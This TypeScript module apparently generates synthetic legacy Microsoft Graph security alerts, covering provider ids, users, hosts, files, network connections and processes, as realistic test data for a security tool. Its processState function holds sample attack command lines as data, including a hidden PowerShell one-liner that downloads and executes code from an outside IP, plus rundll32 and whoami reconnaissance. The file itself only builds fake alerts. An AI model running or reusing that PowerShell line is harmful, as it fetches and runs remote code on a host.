/**
 * Legacy (v1, federated) `microsoft.graph.alert` objects for the generator: vendorInformation of the documented
 * providers, the v1 field set of the resource representation, and per-provider id formats and states.
 */
import { COUNTRIES, LEGACY_PROVIDERS } from './generate-catalog.js';
import type { Directory, DirectoryDevice, DirectoryUser } from './generate-evidence.js';
import { TICKS_PER_SECOND, isoTicks, type Random } from './generate-random.js';

type GraphObject = Record<string, unknown>;

/** .NET ticks at the Unix epoch: Defender ids embed times as .NET ticks. */
export const DOTNET_EPOCH_TICKS = 621_355_968_000_000_000n;
/** `DateTime.MaxValue.Ticks`: Defender for Cloud ids start with it minus the event ticks (newest sorts first). */
const DOTNET_MAX_TICKS = 3_155_378_975_999_999_999n;

/** A legacy alert last modified at `modified` (100 ns ticks), from `provider` or one drawn by weight. */
export function buildLegacyAlert(rnd: Random, dir: Directory, modified: bigint, provider?: string): GraphObject {
  const prov =
    provider === undefined
      ? rnd.weighted(LEGACY_PROVIDERS.map((p) => [p, p.weight] as const))
      : legacyProvider(provider);
  const tpl = rnd.pick(prov.templates);
  const created = modified - BigInt(rnd.int(0, 3600)) * TICKS_PER_SECOND - BigInt(rnd.int(0, 9_999_999));
  const event = created - BigInt(rnd.int(30, 1800)) * TICKS_PER_SECOND;
  const status = rnd.weighted([
    ['newAlert', 60],
    ['inProgress', 25],
    ['resolved', 15],
  ] as const);
  const user = rnd.pick(dir.users);
  const device = rnd.pick(dir.devices);
  const onHost = ['ASC', 'Microsoft Defender ATP', 'Azure Advanced Threat Protection'].includes(prov.provider);
  const signIn = ['IPC', 'MCAS', 'Azure Sentinel', 'Azure Advanced Threat Protection'].includes(prov.provider);
  const place = rnd.pick(COUNTRIES);
  const remoteIp = rnd.ipv4Public();
  return {
    activityGroupName: null,
    assignedTo: status === 'newAlert' ? null : rnd.pick(dir.analysts),
    azureSubscriptionId: prov.provider === 'ASC' ? dir.subscriptionId : null,
    azureTenantId: dir.tenantId,
    category: tpl.category,
    closedDateTime: status === 'resolved' ? isoTicks(modified) : null,
    cloudAppStates: [],
    comments: [],
    confidence: rnd.int(40, 100),
    createdDateTime: isoTicks(created),
    description: tpl.description,
    detectionIds: [],
    eventDateTime: isoTicks(event),
    feedback: status === 'resolved' ? 'truePositive' : null,
    fileStates: onHost && rnd.chance(0.6) ? [fileState(rnd)] : [],
    hostStates: onHost ? [hostState(rnd, device)] : [],
    id: legacyId(rnd, prov.provider, created),
    incidentIds: [],
    lastModifiedDateTime: isoTicks(modified),
    malwareStates: [],
    networkConnections: signIn || onHost ? [networkConnection(rnd, remoteIp, device.ip, place.code)] : [],
    processes:
      prov.provider === 'Microsoft Defender ATP' || prov.provider === 'ASC' ? [processState(rnd, user, created)] : [],
    recommendedActions: [],
    registryKeyStates: [],
    securityResources:
      prov.provider === 'ASC'
        ? [
            {
              resource: `/subscriptions/${dir.subscriptionId}/resourceGroups/prod-rg/providers/Microsoft.Compute/virtualMachines/${device.name}`,
              resourceType: 'attacked',
            },
          ]
        : [],
    severity: rnd.weighted([
      ['informational', 10],
      ['low', 30],
      ['medium', 40],
      ['high', 20],
    ] as const),
    sourceMaterials: [sourceUrl(prov.provider, dir.tenantId)],
    status,
    tags: [],
    title: tpl.title,
    triggers: [],
    userStates: [
      {
        aadUserId: user.azureAdUserId,
        accountName: user.accountName,
        domainName: user.upnDomain,
        emailRole: 'unknown',
        isVpn: signIn ? rnd.chance(0.3) : null,
        logonDateTime: signIn ? isoTicks(event) : null,
        logonId: null,
        logonIp: signIn ? remoteIp : null,
        logonLocation: signIn ? `${place.city}, ${place.code}` : null,
        logonType: null,
        onPremisesSecurityIdentifier: user.userSid,
        riskScore: null,
        userAccountType: null,
        userPrincipalName: user.upn,
      },
    ],
    vendorInformation: {
      provider: prov.provider,
      providerVersion: prov.providerVersion,
      subProvider: prov.subProvider,
      vendor: 'Microsoft',
    },
    vulnerabilityStates: [],
  };
}

function legacyProvider(name: string): (typeof LEGACY_PROVIDERS)[number] {
  const found = LEGACY_PROVIDERS.find((p) => p.provider.toLowerCase() === name.toLowerCase());
  if (!found)
    throw new RangeError(
      `unknown legacy provider '${name}' (known: ${LEGACY_PROVIDERS.map((p) => p.provider).join(', ')})`,
    );
  return found;
}

function legacyId(rnd: Random, provider: string, created: bigint): string {
  switch (provider) {
    case 'IPC':
      return rnd.hex(64);
    case 'ASC':
      return `${DOTNET_MAX_TICKS - (created + DOTNET_EPOCH_TICKS)}_${rnd.guid()}`;
    case 'MCAS':
      return rnd.hex(24);
    case 'Microsoft Defender ATP':
      return `da${created + DOTNET_EPOCH_TICKS}_${rnd.int(-2_147_483_648, 2_147_483_647)}`;
    default:
      return rnd.guid().toUpperCase();
  }
}

function sourceUrl(provider: string, tenantId: string): string {
  switch (provider) {
    case 'IPC':
      return 'https://portal.azure.com/#blade/Microsoft_AAD_IAM/SecurityMenuBlade/RiskDetections';
    case 'MCAS':
      return `https://${tenantId.slice(0, 8)}.portal.cloudappsecurity.com/#/alerts`;
    case 'ASC':
      return 'https://portal.azure.com/#blade/Microsoft_Azure_Security/SecurityMenuBlade/7';
    default:
      return 'https://security.microsoft.com/alerts';
  }
}

function hostState(rnd: Random, device: DirectoryDevice): GraphObject {
  return {
    fqdn: device.dnsName,
    isAzureAdJoined: device.azureAdDeviceId !== null,
    isAzureAdRegistered: false,
    isHybridAzureDomainJoined: device.azureAdDeviceId !== null,
    netBiosName: device.name,
    os: device.os.osPlatform,
    privateIpAddress: device.ip,
    publicIpAddress: rnd.ipv4Public(),
    riskScore: String(rnd.int(0, 100)),
  };
}

function fileState(rnd: Random): GraphObject {
  const name = rnd.pick(['invoice_0423.docm', 'setup_x64.exe', 'update.ps1', 'payload.dll']);
  return {
    name,
    path: `C:\\Users\\Public\\Downloads\\${name}`,
    riskScore: String(rnd.int(40, 100)),
    fileHash: { hashType: 'sha256', hashValue: rnd.hex(64) },
  };
}

function networkConnection(rnd: Random, remote: string, local: string, country: string): GraphObject {
  return {
    applicationName: rnd.pick(['Office 365 Exchange Online', 'Azure Portal', 'svchost.exe', 'Microsoft Teams']),
    destinationAddress: local,
    destinationDomain: null,
    destinationLocation: null,
    destinationPort: String(rnd.pick([443, 445, 3389, 88])),
    destinationUrl: null,
    direction: 'inbound',
    domainRegisteredDateTime: null,
    localDnsName: null,
    natDestinationAddress: null,
    natDestinationPort: null,
    natSourceAddress: null,
    natSourcePort: null,
    protocol: 'tcp',
    riskScore: null,
    sourceAddress: remote,
    sourceLocation: country,
    sourcePort: String(rnd.int(49152, 65535)),
    status: rnd.pick(['attempted', 'succeeded', 'blocked']),
    urlParameters: null,
  };
}

function processState(rnd: Random, user: DirectoryUser, created: bigint): GraphObject {
  const parentCreated = created - BigInt(rnd.int(60, 7200)) * TICKS_PER_SECOND;
  const [name, commandLine] = rnd.pick([
    ['powershell.exe', 'powershell.exe -nop -w hidden -c "IEX (iwr http://185.220.101.4/a)"'],
    ['rundll32.exe', 'rundll32.exe C:\\ProgramData\\lib.dll,Start'],
    ['cmd.exe', 'cmd.exe /c whoami /all'],
  ] as const);
  return {
    accountName: `${user.netbiosDomain}\\${user.accountName}`,
    commandLine,
    createdDateTime: isoTicks(created),
    fileHash: { hashType: 'sha1', hashValue: rnd.hex(40) },
    integrityLevel: rnd.pick(['medium', 'high']),
    isElevated: rnd.chance(0.3),
    name,
    parentProcessCreatedDateTime: isoTicks(parentCreated),
    parentProcessId: rnd.int(500, 9000),
    parentProcessName: 'explorer.exe',
    path: 'C:\\Windows\\System32',
    processId: rnd.int(1000, 20000),
  };
}
